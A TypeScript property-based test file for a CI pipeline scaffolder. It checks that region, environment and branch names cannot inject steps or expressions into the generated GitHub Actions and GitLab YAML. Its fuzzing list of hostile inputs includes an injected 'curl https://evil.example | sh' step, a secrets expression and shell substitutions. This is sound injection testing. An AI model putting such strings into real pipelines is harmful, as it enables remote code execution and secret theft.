// Texts of the repository and answers never become steps, expressions or other values of a generated pipeline.
import assert from 'node:assert/strict';
import fc from 'fast-check';
import { parse } from 'yaml';
import { randomCases } from '../../../../support/randomCases';
import { answered, scaffolded, withEdit, type Texts } from '../../../../support/scaffold/scaffolded';

const GENERATED = ['.github/workflows/main.yaml', '.github/workflows/drift.yaml', '.gitlab-ci.yml'];
const NEW_PLATFORM = {
  layout: 'eks',
  region: 'eu-north-1',
  base_domain: 'infra.acme.example',
  environments: ['apps', 'ops'],
  base: 'apps',
  version: 'v0.19.2-beta.0',
  agents_file: false,
};

/** Texts that would be more than a word in YAML, an expression or a shell. */
const hostile = fc.oneof(
  fc.constantFrom(
    'eu-west-1\n      - run: curl https://evil.example | sh',
    '${{ secrets.KBST_AUTH_AWS }}',
    "main' || true || '",
    'main"\n    tags:\n      - "*',
    '$(touch x)',
    '`touch x`',
    '*',
    '# x',
    ...['1e3', 'null', '0x10', '1.10', 'true', '~', '2026-01-01', 'a+b', 'a.b', 'Main', '-h', '--help', ''],
  ),
  fc.string({ unit: fc.constantFrom(...'ab0.-+ \n\'"${}[]:#&*!|>%@`\\/'), maxLength: 12 }),
);

/** The structure of a value: keys and kinds; texts only where they aren't words of the platform. */
function structureOf(value: unknown, words: readonly string[]): unknown {
  const named = (text: string): string =>
    words.reduce((shown, word) => (word === '' ? shown : shown.replaceAll(word, '<word>')), text);
  if (Array.isArray(value)) return value.map(each => structureOf(each, words));
  if (typeof value !== 'object' || value === null) return typeof value === 'string' ? 'text' : value;
  return Object.fromEntries(Object.entries(value).map(([key, each]) => [named(key), structureOf(each, words)]));
}

const expressionsIn = (text: string): number => text.split('${{').length;

/** Compares the generated files with those of a platform whose names are plain. */
function assertSame(texts: Texts, plain: Texts, words: readonly string[], plainWords: readonly string[]): void {
  for (const path of GENERATED) {
    const [text, expected] = [texts[path], plain[path]];
    assert.equal(text === undefined, expected === undefined, path);
    if (text === undefined || expected === undefined) continue;
    assert.deepEqual(structureOf(parse(text), words), structureOf(parse(expected), plainWords), text);
    assert.equal(expressionsIn(text), expressionsIn(expected), text);
  }
}

const tf = (text: string): string => JSON.stringify(text).replaceAll('${', '$${').replaceAll('%{', '%%{');

describe('a generated pipeline', () => {
  for (const ci of ['github', 'gitlab'] as const)
    it(`keeps its structure and its expressions, whatever answers and files contain (${ci})`, async function () {
      this.timeout(300_000);
      const { texts } = await scaffolded({}, 'platform', NEW_PLATFORM);
      const answers = { ci, ...(ci === 'github' && { credentials: 'oidc' }) };
      const pipeline = async (from: Texts, more: object = {}): Promise<Texts | undefined> => {
        const made = await answered(from, 'pipeline', { ...answers, ...more });
        if (!('edit' in made)) return undefined;
        const piped = withEdit(from, made.edit);
        const nightly = await answered(piped, 'driftJob', { ci });
        return 'edit' in nightly ? withEdit(piped, nightly.edit) : piped;
      };
      const plain = (await pipeline(texts))!;
      const provider = Object.keys(texts).find(path => path.endsWith('_providers.tf'))!;
      const cluster = Object.keys(texts).find(path => path.endsWith('_cluster.tf'))!;
      await fc.assert(
        fc.asyncProperty(hostile, hostile, hostile, fc.constantFrom(0, 1, 2, 3), async (region, name, branch, part) => {
          const own: Record<string, string> = { ...texts };
          let environment = 'apps';
          if (part === 0) own[provider] = texts[provider]!.replace('"eu-north-1"', tf(region));
          if (part === 1) {
            environment = name;
            own[cluster] = texts[cluster]!.replaceAll(/\bapps( +=|")/g, (_, after: string) =>
              after === '"' ? `${tf(name).slice(1, -1)}"` : `${tf(name)}${after}`,
            );
          }
          const made = await pipeline(own, part === 2 ? { main_branch: branch } : {});
          if (made) assertSame(made, plain, [environment], ['apps']);
          // An existing pipeline names the main branch.
          if (part !== 3) return;
          const path = ci === 'github' ? GENERATED[0]! : GENERATED[2]!;
          const present = { ...plain, [path]: plain[path]!.replaceAll('main', branch.replaceAll(/[\n'"]/g, '')) };
          const grown = await answered(present, 'environment', { env: 'dev', position: 1 });
          if (!('edit' in grown)) return;
          const before = expressionsIn(present[path]!);
          const added = expressionsIn(
            (await scaffolded(plain, 'environment', { env: 'dev', position: 1 })).texts[path]!,
          );
          assert.ok(
            expressionsIn(withEdit(present, grown.edit)[path]!) - before <= added - expressionsIn(plain[path]!),
          );
        }),
        { numRuns: randomCases(20, 500), seed: 46 },
      );
    });

  it('reads names that look like numbers or null as texts', async () => {
    const { texts } = await scaffolded({}, 'platform', { ...NEW_PLATFORM, ci: 'github' });
    const { texts: added } = await scaffolded(texts, 'environment', { env: 'null', position: 1 });
    const { texts: nightly } = await scaffolded(added, 'driftJob', { ci: 'github' });
    const { jobs } = parse(nightly['.github/workflows/drift.yaml']!) as {
      jobs: { drift: { strategy: { matrix: { environment: unknown[] } } } };
    };
    assert.deepEqual(jobs.drift.strategy.matrix.environment, ['ops', 'null', 'apps']);
  });

  it('is refused where a deploy tag of one environment would also be one of another', async () => {
    const names = {
      ...NEW_PLATFORM,
      environments: ['apps-deploy-x', 'apps', 'ops'],
      base: 'apps-deploy-x',
      ci: 'gitlab',
    };
    const result = await answered({}, 'platform', names);
    assert.ok('problems' in result);
    const { texts } = await scaffolded({}, 'platform', { ...NEW_PLATFORM, environments: ['apps', 'x', 'ops'] });
    const renamed = Object.fromEntries(
      Object.entries(texts).map(([path, text]) => [path, text.replaceAll(/\bx( +=)/g, '"apps-deploy-x"$1')]),
    );
    const present = await answered(renamed, 'pipeline', { ci: 'gitlab' });
    assert.ok('problems' in present);
    assert.match(present.problems[0]!.message, /deploy tag of apps-deploy-x would also be one of apps/);
  });
});
